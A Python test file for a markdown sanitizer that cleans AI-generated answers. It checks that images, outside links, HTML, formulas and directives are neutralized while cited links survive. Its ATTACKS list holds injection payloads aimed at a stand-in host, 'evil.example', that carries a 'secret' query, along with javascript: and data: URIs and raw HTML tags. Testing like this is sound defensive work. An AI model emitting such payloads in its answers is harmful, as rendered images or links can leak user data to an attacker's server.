"""Nothing in an answer can load an image, link elsewhere, or be HTML, a formula or a directive."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ui.safe import inline, markdown, plain

CITED = "https://arxiv.org/abs/2305.11206"
EVIL = "https://evil.example/x?q=secret"
ATTACKS = [
    f"![pixel]({EVIL})",
    f"![pixel][a]\n\n[a]: {EVIL}",
    f"[click]({EVIL})",
    f"[click](<{EVIL}> 'title')",
    f"[click][a]\n\n[a]: {EVIL}",
    f"<{EVIL}>",
    f"see {EVIL}.",
    f"see www.evil.example and {EVIL})",
    f"[a [b]({EVIL}) c]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"`code` ![x]({EVIL}) `code`",
    f"`` ` `` ![x]({EVIL})",
    f"` ![x]({EVIL})",
    f"\\![x]({EVIL})",
    f"\\\\![x]({EVIL})",
    f"<img src={EVIL}>",
    f'<a href="{EVIL}">x</a>',
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    f"[x](\n{EVIL}\n)",
    f"[x]( {EVIL} (title))",
    f"- item\n  ![x]({EVIL})",
    f"> ![x]({EVIL})\n>\n> [a]: {EVIL}\n> [a]",
]


def tokens(text: str) -> list[Token]:
    parsed = MarkdownIt("commonmark").parse(text)
    return [inner for outer in parsed for inner in (outer, *(outer.children or ()))]


def addresses(text: str) -> set[str]:
    return {
        str(token.attrs.get("href") or token.attrs.get("src"))
        for token in tokens(text)
        if token.type in ("link_open", "image")
    }


@pytest.mark.parametrize("attack", ATTACKS)
def test_images_and_foreign_links_are_made_plain(attack: str) -> None:
    for text in (attack, f"words {attack} words", f"**{attack}**", f"| a |\n|---|\n| {attack} |"):
        shown = markdown(text, {CITED}, {1})
        assert addresses(shown) <= {CITED}, shown
        assert not any(token.type.startswith("html") for token in tokens(shown)), shown
        assert addresses(plain(text)) == set()


@given(
    st.lists(st.sampled_from([*ATTACKS, "`", "``", "\\", "[", "]", "(", ")", "!", "<", "\n", "x", CITED, " ", "[1]"]))
)
def test_no_mixture_of_attacks_gets_through(parts: list[str]) -> None:
    shown = markdown("".join(parts), {CITED}, {1})
    assert addresses(shown) <= {CITED}
    assert not any(token.type.startswith("html") for token in tokens(shown))
    bare = shown.replace(CITED, "").lower()
    assert "://" not in bare
    assert "www." not in bare


@given(st.text(alphabet="ab 中\\`*_[]()<>#+-.!|~$:&\n1", max_size=60))
def test_plain_text_is_shown_as_it_is(text: str) -> None:
    shown = MarkdownIt("commonmark").parse(plain(text))
    read = "".join(
        "\n" if inner.type == "hardbreak" else inner.content for outer in shown for inner in outer.children or ()
    )
    wanted = "\n".join(" ".join(line.split()) for line in text.splitlines()).strip()
    assert re.sub(r"[^\S\n]+", " ", read.replace("\u00a0", "")).strip() == wanted


def test_what_an_answer_uses_stays() -> None:
    text = (
        f"**从 Base 开始** [1][2]。\n\n| a | b |\n|---|---|\n| `x ~ $y$` | [s]({CITED}) |\n\n1. one\n- two\n\n{CITED}."
    )
    shown = markdown(text, {CITED}, {1})
    assert ":small[:gray[\\[1\\]]][2]" in shown
    assert "`x ~ $y$`" in shown
    assert f"[s](<{CITED}>)" in shown
    assert f"<{CITED}>." in shown
    assert "| a | b |\n|---|---|" in shown


def test_formulas_strikes_and_directives_are_made_plain() -> None:
    assert markdown("$5 and ~x~ :red[a] :material/x: 10:30 a: [b]") == (
        "\\$5 and \\~x\\~ \\:red[a] \\:material/x: 10:30 a: [b]"
    )
    assert inline("a\n b") == "a b"


@pytest.mark.parametrize("text", ["**从 Base 开始。**没问到", "说**（甲）**乙", "a。**b。**c：**d**", "**x：**y **z**"])
def test_bold_text_ends_at_chinese_punctuation(text: str) -> None:
    shown = tokens(markdown(text))
    assert sum(token.type == "strong_open" for token in shown) == text.count("**") // 2
    assert not any("*" in token.content for token in shown if token.type == "text")
